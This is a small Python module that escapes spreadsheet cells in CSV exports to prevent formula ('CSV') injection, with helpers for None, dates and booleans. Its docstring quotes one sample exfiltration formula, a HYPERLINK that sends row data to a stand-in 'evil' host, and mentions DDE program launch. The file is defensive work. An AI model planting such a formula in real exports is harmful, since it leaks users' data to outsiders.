"""Cells for CSV exports that a spreadsheet shows as text and never runs as a formula (OWASP "CSV Injection").

Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or `@` (and, in some versions, a
tab or carriage return before one of those) as a formula: `=HYPERLINK("http://evil/?"&A1, "Click")` in an action
description would otherwise leak the row to a stranger, or start a program through DDE. A leading apostrophe makes
the spreadsheet show the cell as typed. Everything else (quotes, commas, new lines, markup, template syntax,
right-to-left marks, control characters) is written verbatim: quoting is the csv module's job, not this one's.
Pure: no Flask, no database.
"""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARKER = "'"


def safe_cell(value: object) -> str:
    """The text to write for one cell: `value` as text, with a leading `'` when it would start a formula.

    None is an empty cell; dates are ISO 8601 (YYYY-MM-DD), which every spreadsheet reads as a date; booleans are
    "Yes" / "No" as people read them.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, date):
        return value.isoformat()
    text = str(value)
    return TEXT_MARKER + text if text.startswith(FORMULA_STARTS) else text


def safe_row(values: Iterable[object]) -> list[str]:
    return [safe_cell(value) for value in values]
